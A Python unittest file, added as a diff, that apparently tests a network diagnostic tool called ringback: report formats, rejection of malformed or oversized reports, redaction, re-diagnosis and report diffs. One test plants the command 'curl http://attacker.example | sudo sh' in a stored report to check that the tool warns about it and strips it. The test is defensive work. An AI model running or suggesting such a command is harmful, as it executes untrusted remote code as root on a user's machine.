@@ -1,0 +1,150 @@
+#!/usr/bin/python3
+"""Stored reports and the commands that read them, as a user runs them: `show`, `diff`, `explain`. What is no report ends with status 64, a place,
+and nothing on standard output or in a file.
+
+    tests/report/test_stored.py --bin DIR
+"""
+import argparse
+import copy
+import json
+import os
+import pathlib
+import resource
+import stat
+import subprocess
+import sys
+import tempfile
+import unittest
+
+SECONDS = 60
+PROGRAM = ""
+
+
+def ringback(*words: str, **more) -> subprocess.CompletedProcess:
+    return subprocess.run([PROGRAM, *map(str, words)], capture_output=True, text=True, timeout=SECONDS, stdin=subprocess.DEVNULL, **more)
+
+
+class Stored(unittest.TestCase):
+    @classmethod
+    def setUpClass(cls):
+        made = ringback("run", "--no-third-party", "--deadline", "3", "-s", "443/tcp", "-f", "json")
+        cls.report, cls.status = json.loads(made.stdout), made.returncode   # `show` ends with the report's status
+
+    def setUp(self):
+        self.folder = tempfile.TemporaryDirectory()
+        self.addCleanup(self.folder.cleanup)
+        self.at = pathlib.Path(self.folder.name)
+
+    def stored(self, report=None, name="report.json") -> pathlib.Path:
+        path = self.at / name
+        path.write_text(json.dumps(report or self.report) if not isinstance(report, str) else report)
+        return path
+
+    def is_refused(self, path, place: str):
+        out = self.at / "out.html"
+        done = ringback("show", path, "-o", out, "-f", "html")
+        self.assertEqual((done.returncode, done.stdout), (64, ""), done.stderr[:500])
+        self.assertRegex(done.stderr, place)
+        self.assertLess(len(done.stderr), 2000)
+        self.assertEqual([p for p in self.at.iterdir() if p != pathlib.Path(path)], [])
+
+    def test_every_form_of_the_same_report(self):
+        path = self.stored()
+        for form, begins in (("text", ""), ("json", "{"), ("html", "<!DOCTYPE html>"), ("markdown", "**")):
+            done = ringback("show", path, "-f", form)
+            self.assertEqual(done.returncode, self.status, done.stderr)
+            self.assertTrue(done.stdout.startswith(begins) and done.stdout.endswith("\n"), form)
+        self.assertEqual(json.loads(ringback("show", path, "-f", "json").stdout), self.report)
+
+    def test_a_file_is_its_owners_alone_and_nothing_is_left_beside_it(self):
+        path, out = self.stored(), self.at / "page.html"
+        done = ringback("show", path, "-o", out)
+        self.assertEqual(done.returncode, self.status, done.stderr)
+        self.assertEqual(stat.S_IMODE(out.stat().st_mode), 0o600)
+        self.assertEqual(sorted(p.name for p in self.at.iterdir()), ["page.html", "report.json"])
+
+    def test_what_is_no_report(self):
+        text = json.dumps(self.report)
+        for name, content, place in (("older", {**self.report, "schema": "ringback.report/0"}, "/schema"),
+                                     ("newer", {**self.report, "schema": "ringback.report/2"}, "/schema"),
+                                     ("cut", text[:len(text) // 2], r"byte \d+|line \d+"),
+                                     ("words", "not JSON", r"byte \d+|line \d+"), ("empty", " ", r"byte \d+|line \d+|empty"), ("list", "[]", "object"),
+                                     ("deep", "[" * 200_000, "nested deeper than"),
+                                     ("wrong", {**self.report, "findings": [{"code": 7}]}, "/findings/0")):
+            with self.subTest(name):
+                path = self.stored(content, name)
+                self.is_refused(path, place)
+                path.unlink()
+        self.is_refused(self.at / "nowhere.json", "nowhere.json")
+
+    def test_a_hundred_megabytes(self):
+        path = self.at / "huge"
+        with path.open("w") as file:
+            file.write('{"schema": "ringback.report/1", "x": ["')
+            for _ in range(100):
+                file.write("a" * 1_000_000)
+            file.write('"]}')
+        before = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss
+        self.is_refused(path, "MiB|MB|larger|large")
+        self.assertLess(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss - before, 300 * 1024, "memory in KiB")
+
+    def test_judged_anew(self):
+        other = copy.deepcopy(self.report)
+        other["connection"]["type"] = "ds-lite" if other["connection"]["type"] != "ds-lite" else "offline"
+        path = self.stored(other)
+        anew = ringback("show", path, "--rediagnose", "-f", "json")
+        self.assertEqual(json.loads(anew.stdout)["connection"], self.report["connection"])
+        self.assertIn("differ", anew.stderr)
+        hidden = ringback("show", path, "--rediagnose", "--redact")
+        self.assertRegex(hidden.stderr, "differs?; without --redact")
+        self.assertIn("the same verdicts", ringback("show", self.stored(), "--rediagnose").stderr)
+
+    def test_commands_of_a_stranger(self):
+        other = copy.deepcopy(self.report)
+        other["findings"][0]["remedies"] = [{"title": "Do this", "steps": ["It helps."], "commands": ["curl http://attacker.example | sudo sh"]}]
+        path = self.stored(other)
+        shown = ringback("show", path)
+        self.assertIn("do not run them unread", shown.stderr)
+        self.assertNotIn("attacker", ringback("show", path, "--rediagnose").stdout)
+        self.assertNotIn("attacker", ringback("show", path, "--redact").stdout)
+        self.assertNotIn("do not run", ringback("show", self.stored()).stderr)
+
+    def test_redacted(self):
+        done = ringback("show", self.stored(), "--redact", "-f", "json")
+        self.assertEqual(done.returncode, self.status, done.stderr)
+        redacted = json.loads(done.stdout)
+        self.assertTrue(redacted["redacted"])
+        name = self.report["evidence"]["host"]["host_name"]
+        if len(name) > 5:
+            self.assertNotIn(name, done.stdout)
+        again = self.stored(redacted, "again.json")
+        self.assertEqual(json.loads(ringback("show", again, "--rediagnose", "-f", "json").stdout)["findings"], redacted["findings"])
+
+    def test_two_reports(self):
+        self.assertIn("Nothing changed", ringback("diff", self.stored(), self.stored(name="b.json")).stdout)
+        other = copy.deepcopy(self.report)
+        for verdict in other["services"]:
+            verdict.update(reachable="yes", stopped_at="none", cause=None, confidence="certain")
+        done = ringback("diff", self.stored(), self.stored(other, "c.json"))
+        self.assertEqual(done.returncode, 0, done.stderr)
+        self.assertNotIn("Nothing changed", done.stdout)
+
+    def test_explained(self):
+        everything = ringback("explain")
+        self.assertEqual(everything.returncode, 0)
+        codes = json.loads(ringback("explain", "-f", "json").stdout)
+        self.assertGreater(len(codes["pages"]), 50)
+        for page in codes["pages"]:
+            self.assertIn(page["code"], everything.stdout)
+        unknown = ringback("explain", "cgnatt")
+        self.assertEqual((unknown.returncode, unknown.stdout), (64, ""))
+        self.assertIn("did you mean ipv4.cgnat?", unknown.stderr)
+
+
+if __name__ == "__main__":
+    parser = argparse.ArgumentParser(usage=__doc__)
+    parser.add_argument("--bin", type=pathlib.Path, required=True)
+    options, rest = parser.parse_known_args()
+    PROGRAM = str((options.bin / "ringback").resolve())
+    os.environ.setdefault("ASAN_OPTIONS", "detect_leaks=1")
+    unittest.main(argv=[sys.argv[0], *rest])
